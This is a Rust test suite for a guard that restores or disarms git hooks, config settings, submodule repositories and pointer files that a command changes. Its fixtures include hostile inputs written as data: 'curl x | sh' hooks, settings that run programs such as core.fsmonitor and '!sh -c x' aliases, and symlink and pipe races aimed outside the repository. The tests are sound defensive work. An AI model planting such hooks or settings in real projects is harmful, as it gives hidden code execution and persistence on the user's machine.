        assert_eq!(guard.after(&root).len(), 1);
        assert_eq!(mode(&hook), 0o755);
        // Made not executable, its bytes the same: the person's checks would stop running.
        let guard = GitGuard::before(&root);
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o644)).unwrap();
        assert_eq!(guard.after(&root).len(), 1);
        assert_eq!(mode(&hook), 0o755);
        assert_eq!(
            std::fs::read_to_string(&hook).unwrap(),
            "#!/bin/sh\n./scan-for-secrets\n"
        );
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn a_link_put_at_a_hook_again_and_again_is_never_written_through() {
        let root = repo("hook-race");
        let outside = root.with_extension("outside");
        std::fs::write(&outside, "the person's file\n").unwrap();
        let hook = root.join(".git/hooks/pre-commit");
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        // A background process puts a link to the outside file at the hook as fast as it can.
        let linker = {
            let (hook, outside, stop) = (hook.clone(), outside.clone(), stop.clone());
            std::thread::spawn(move || {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let _ = std::os::unix::fs::symlink(&outside, &hook);
                }
            })
        };
        for _ in 0..2000 {
            let _ = put(&hook, b"#!/bin/sh\nexit 0\n", 0o755);
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        linker.join().unwrap();
        assert_eq!(
            std::fs::read_to_string(&outside).unwrap(),
            "the person's file\n"
        );
        let _ = std::fs::remove_dir_all(&root);
        let _ = std::fs::remove_file(&outside);
    }

    #[test]
    fn a_hooks_folder_swapped_for_a_link_again_and_again_leads_no_write_or_removal_outside() {
        let root = repo("hooks-swap");
        let outside = root.with_extension("outside");
        let _ = std::fs::remove_dir_all(&outside);
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(outside.join("conversation.jsonl"), "the person's session\n").unwrap();
        let hooks = root.join(".git/hooks");
        std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        let guard = GitGuard::before(&root);
        std::fs::remove_file(hooks.join("pre-commit")).unwrap();
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        // A process left running swaps the hooks folder for a link to the outside folder and
        // back, as fast as it can.
        let swapper = {
            let (hooks, outside, stop) = (hooks.clone(), outside.clone(), stop.clone());
            let aside = root.join(".git/hooks-aside");
            std::thread::spawn(move || {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    if std::fs::rename(&hooks, &aside).is_ok() {
                        let _ = std::os::unix::fs::symlink(&outside, &hooks);
                        std::thread::yield_now();
                        let _ = std::fs::remove_file(&hooks);
                        let _ = std::fs::rename(&aside, &hooks);
                    }
                }
            })
        };
        for _ in 0..300 {
            let _ = guard.restore(&root);
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        swapper.join().unwrap();
        let mut names: Vec<_> = std::fs::read_dir(&outside)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        names.sort();
        assert_eq!(names, ["conversation.jsonl"], "written or removed outside");
        assert_eq!(
            std::fs::read_to_string(outside.join("conversation.jsonl")).unwrap(),
            "the person's session\n"
        );
        let _ = std::fs::remove_dir_all(&root);
        let _ = std::fs::remove_dir_all(&outside);
    }

    #[test]
    fn a_folder_made_in_a_hook_s_place_is_taken_away_and_the_hook_put_back() {
        use std::os::unix::fs::PermissionsExt;
        let root = repo("hook-folder");
        let hook = root.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        let guard = GitGuard::before(&root);
        std::fs::remove_file(&hook).unwrap();
        std::fs::create_dir(&hook).unwrap();
        std::fs::write(hook.join("inside"), "x").unwrap();
        let said = guard.after(&root);
        assert!(said.iter().all(|s| !s.contains("could not")), "{said:?}");
        assert_eq!(
            std::fs::read_to_string(&hook).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn a_setting_that_runs_a_program_is_put_back_and_others_stay() {
        let root = repo("config");
        let config = root.join(".git/config");
        let set = |key: &str, value: &str| {
            let ok = std::process::Command::new("git")
                .args(["config", key, value])
                .current_dir(&root)
                .status()
                .unwrap()
                .success();
            assert!(ok);
        };
        let guard = GitGuard::before(&root);
        set("user.name", "Someone");
        assert!(guard.after(&root).is_empty(), "an ordinary setting stays");
        assert!(std::fs::read_to_string(&config)
            .unwrap()
            .contains("Someone"));
        let before = std::fs::read_to_string(&config).unwrap();
        for (key, value) in [
            ("core.fsmonitor", "touch /tmp/x"),
            ("core.hooksPath", "/tmp/hooks"),
            ("diff.evil.textconv", "sh -c x"),
            ("alias.st", "!sh -c x"),
        ] {
            let guard = GitGuard::before(&root);
            set(key, value);
            let said = guard.after(&root);
            assert_eq!(said.len(), 1, "{key}: {said:?}");
            assert_eq!(std::fs::read_to_string(&config).unwrap(), before, "{key}");
        }
        let _ = std::fs::remove_dir_all(&root);
    }

    fn git(root: &Path, args: &[&str]) {
        let ok = std::process::Command::new("git")
            .args(args)
            .current_dir(root)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    }

    #[test]
    fn a_worktree_config_and_a_submodule_s_repository_are_kept_too() {
        let root = repo("modules");
        git(&root, &["init", "-q", "--bare", ".git/modules/sub"]);
        let module = root.join(".git/modules/sub");
        let before = std::fs::read_to_string(module.join("config")).unwrap();
        let guard = GitGuard::before(&root);
        git(&root, &["config", "extensions.worktreeConfig", "true"]);
        git(
            &root,
            &["config", "--worktree", "core.fsmonitor", "touch /tmp/x"],
        );
        git(
            &root,
            &[
                "--git-dir",
                ".git/modules/sub",
                "config",
                "core.fsmonitor",
                "sh x",
            ],
        );
        std::fs::write(module.join("hooks/post-checkout"), "#!/bin/sh\nsh x\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 3, "{said:?}");
        assert!(!root.join(".git/config.worktree").exists(), "{said:?}");
        assert_eq!(
            std::fs::read_to_string(module.join("config")).unwrap(),
            before
        );
        assert!(!module.join("hooks/post-checkout").exists());
        let _ = std::fs::remove_dir_all(&root);
    }

    /// A submodule's repository a command makes in `.git/modules/new`, with a setting that runs
    /// a program (`core.fsmonitor`).
    fn made_module(root: &Path) -> PathBuf {
        git(root, &["init", "-q", "--bare", ".git/modules/new"]);
        git(
            root,
            &[
                "--git-dir",
                ".git/modules/new",
                "config",
                "core.fsmonitor",
                "sh x",
            ],
        );
        root.join(".git/modules/new")
    }

    #[test]
    fn a_submodule_s_repository_a_command_makes_is_disarmed() {
        let root = repo("new-module");
        let guard = GitGuard::before(&root);
        let module = made_module(&root);
        git(
            &root,
            &[
                "--git-dir",
                ".git/modules/new",
                "config",
                "user.name",
                "Someone",
            ],
        );
        std::fs::write(module.join("hooks/pre-commit"), "#!/bin/sh\nsh x\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        assert!(!module.join("hooks/pre-commit").exists());
        // git's inert samples stay.
        let samples = std::fs::read_dir(module.join("hooks"))
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().ends_with(".sample"))
            .count();
        assert!(samples > 0);
        let config = std::fs::read_to_string(module.join("config")).unwrap();
        assert!(
            !config.contains("fsmonitor") && config.contains("Someone"),
            "{config}"
        );
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn a_git_file_pointed_elsewhere_is_put_back_or_taken_away() {
        // A folder turned into a pointer to a repository the command made: taken away.
        let root = repo("pointer");
        let elsewhere = root.join("elsewhere");
        git(&root, &["init", "-q", "--bare", "elsewhere"]);
        let guard = GitGuard::before(&root);
        std::fs::rename(root.join(".git"), root.join("moved")).unwrap();
        std::fs::write(
            root.join(".git"),
            format!("gitdir: {}\n", elsewhere.display()),
        )
        .unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        assert!(!root.join(".git").exists());
        // A pointer changed: put back.
        std::fs::write(root.join(".git"), "gitdir: moved\n").unwrap();
        let guard = GitGuard::before(&root);
        std::fs::write(root.join(".git"), "gitdir: elsewhere\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".git")).unwrap(),
            "gitdir: moved\n"
        );
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn a_hook_added_beside_more_than_the_guard_keeps_is_removed_and_commondir_put_back() {
        let root = repo("large");
        let hooks = root.join(".git/hooks");
        let guard = GitGuard::before(&root);
        std::fs::write(hooks.join("zz.sample"), vec![b'#'; HOOKS_MAX + 1]).unwrap();
        std::fs::create_dir_all(hooks.join("d")).unwrap();
        std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\nsh x\n").unwrap();
        std::fs::write(root.join(".git/commondir"), "../evil\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 2, "{said:?}");
        assert!(!hooks.join("pre-commit").exists());
        assert!(!root.join(".git/commondir").exists());
        // A hook the guard could not keep whole, changed: removed, as it cannot be put back.
        std::fs::write(hooks.join("zz.sample"), vec![b'#'; HOOKS_MAX + 1]).unwrap();
        std::fs::write(hooks.join("pre-push"), vec![b'#'; HOOKS_MAX]).unwrap();
        let guard = GitGuard::before(&root);
        std::fs::write(hooks.join("pre-push"), "#!/bin/sh\nsh x\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        assert!(
            !hooks.join("pre-push").exists()
                || std::fs::read(hooks.join("pre-push")).unwrap().len() == HOOKS_MAX
        );
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn links_put_in_place_of_git_s_folders_are_taken_away_and_never_followed() {
        let root = repo("links");
        let outside = root.with_extension("outside");
        let _ = std::fs::remove_dir_all(&outside);
        std::fs::create_dir_all(outside.join("repo")).unwrap();
        std::fs::write(outside.join("keep.txt"), "KEEP\n").unwrap();
        std::fs::write(outside.join("config"), "OUTSIDE\n").unwrap();
        git(&root, &["init", "-q", "--bare", ".git/modules/sub"]);
        let guard = GitGuard::before(&root);
        // The hooks folder, a config file and a new module's folder made links to outside.
        std::fs::remove_dir_all(root.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink(&outside, root.join(".git/hooks")).unwrap();
        let module_config = root.join(".git/modules/sub/config");
        std::fs::remove_file(&module_config).unwrap();
        std::os::unix::fs::symlink(outside.join("config"), &module_config).unwrap();
        std::os::unix::fs::symlink(outside.join("repo"), root.join(".git/modules/other")).unwrap();
        let said = guard.after(&root);
        assert!(said.len() >= 3, "{said:?}");
        assert_eq!(
            std::fs::read_to_string(outside.join("keep.txt")).unwrap(),
            "KEEP\n"
        );
        assert_eq!(
            std::fs::read_to_string(outside.join("config")).unwrap(),
            "OUTSIDE\n"
        );
        assert!(!is_link(&root.join(".git/hooks")) && root.join(".git/hooks").is_dir());
        assert!(!is_link(&module_config));
        assert!(!root.join(".git/modules/other").exists());
        let _ = std::fs::remove_dir_all(&root);
        let _ = std::fs::remove_dir_all(&outside);
    }

    #[test]
    fn a_pipe_in_git_s_places_neither_blocks_the_guard_nor_stays() {
        let root = repo("pipe");
        let hooks = root.join(".git/hooks");
        let guard = GitGuard::before(&root);
        let made = std::process::Command::new("mkfifo")
            .arg(hooks.join("pre-commit"))
            .arg(root.join(".git/config.worktree"))
            .status()
            .unwrap()
            .success();
        assert!(made);
        let (done, wait) = std::sync::mpsc::channel();
        let at = root.clone();
        std::thread::spawn(move || {
            let _ = done.send(guard.after(&at));
        });
        let said = wait
            .recv_timeout(std::time::Duration::from_secs(20))
            .expect("the guard blocked on a pipe");
        assert_eq!(said.len(), 2, "{said:?}");
        assert!(std::fs::symlink_metadata(hooks.join("pre-commit")).is_err());
        assert!(std::fs::symlink_metadata(root.join(".git/config.worktree")).is_err());
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn the_hooks_folder_core_hooks_path_names_in_the_project_is_kept_too() {
        let root = repo("hookspath");
        git(&root, &["config", "core.hooksPath", ".husky/_"]);
        std::fs::create_dir_all(root.join(".husky/_")).unwrap();
        std::fs::write(root.join(".husky/_/pre-push"), "#!/bin/sh\nexit 0\n").unwrap();
        let guard = GitGuard::before(&root);
        std::fs::write(root.join(".husky/_/pre-commit"), "#!/bin/sh\nsh x\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        assert!(!root.join(".husky/_/pre-commit").exists());
        assert!(root.join(".husky/_/pre-push").exists());
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn a_pipe_at_commondir_is_taken_away_and_blocks_no_git_the_guard_runs() {
        let root = repo("commondir-pipe");
        let guard = GitGuard::before(&root);
        let made = std::process::Command::new("mkfifo")
            .arg(root.join(".git/commondir"))
            .status()
            .unwrap()
            .success();
        assert!(made);
        // A change that makes the guard ask git about the config: git run in the project would
        // look for its repository and block on the pipe (as git here would: the file is
        // written as it is).
        let config = root.join(".git/config");
        let mut text = std::fs::read_to_string(&config).unwrap();
        text.push_str("[core]\n\tpager = sh x\n");
        std::fs::write(&config, text).unwrap();
        let (done, wait) = std::sync::mpsc::channel();
        let at = root.clone();
        std::thread::spawn(move || {
            let _ = done.send(guard.after(&at));
        });
        let said = wait
            .recv_timeout(std::time::Duration::from_secs(20))
            .expect("the guard blocked on a pipe at commondir");
        assert!(
            std::fs::symlink_metadata(root.join(".git/commondir")).is_err(),
            "{said:?}"
        );
        let config = std::fs::read_to_string(root.join(".git/config")).unwrap();
        assert!(!config.contains("sh x"), "{config}");
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn husky_s_hooks_above_its_underscore_folder_are_kept_too() {
        let root = repo("husky");
        git(&root, &["config", "core.hooksPath", ".husky/_"]);
        std::fs::create_dir_all(root.join(".husky/_")).unwrap();
        std::fs::write(root.join(".husky/_/h"), "#!/bin/sh\nsh -e .husky/$1\n").unwrap();
        std::fs::write(root.join(".husky/pre-commit"), "npm test\n").unwrap();
        let guard = GitGuard::before(&root);
        std::fs::write(root.join(".husky/pre-commit"), "curl x | sh\n").unwrap();
        std::fs::write(root.join(".husky/pre-push"), "curl x | sh\n").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        assert_eq!(
            std::fs::read_to_string(root.join(".husky/pre-commit")).unwrap(),
            "npm test\n"
        );
        assert!(!root.join(".husky/pre-push").exists());
        let _ = std::fs::remove_dir_all(&root);
    }

    #[test]
    fn a_made_repository_s_setting_is_taken_out_past_a_lock_file_left_beside_it() {
        let root = repo("module-lock");
        let guard = GitGuard::before(&root);
        let module = made_module(&root);
        std::fs::write(module.join("config.lock"), "").unwrap();
        let said = guard.after(&root);
        assert_eq!(said.len(), 1, "{said:?}");
        let config = std::fs::read_to_string(module.join("config")).unwrap_or_default();
        assert!(!config.contains("fsmonitor"), "{config}");
        let _ = std::fs::remove_dir_all(&root);
    }

    /// A repository made inside the work tree, with a commit, kept as a gitlink of the project.
    fn nested(root: &Path, name: &str) -> PathBuf {
        git(root, &["init", "-q", name]);
        let sub = root.join(name);
        git(
            &sub,
            &[
                "-c",
                "user.name=x",
                "-c",
                "user.email=x@x",
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "x",
            ],
        );
        git(root, &["add", name]);
        sub
    }

    #[test]
    fn a_repository_the_index_keeps_in_the_work_tree_is_guarded_and_a_new_one_disarmed() {
        let root = repo("gitlinks");
        let old = nested(&root, "old");
        let guard = GitGuard::before(&root);
        // One already there, changed; one made and kept by the command.
        git(&old, &["config", "core.fsmonitor", "sh x"]);
        std::fs::write(old.join(".git/hooks/pre-commit"), "#!/bin/sh\nsh x\n").unwrap();
        let new = nested(&root, "new");
        git(&new, &["config", "core.fsmonitor", "sh x"]);
        let said = guard.after(&root);
        assert!(said.len() >= 3, "{said:?}");
        for sub in [&old, &new] {
            let config = std::fs::read_to_string(sub.join(".git/config")).unwrap();
            assert!(!config.contains("fsmonitor"), "{config}");
        }
        assert!(!old.join(".git/hooks/pre-commit").exists());
        let _ = std::fs::remove_dir_all(&root);
    }
}
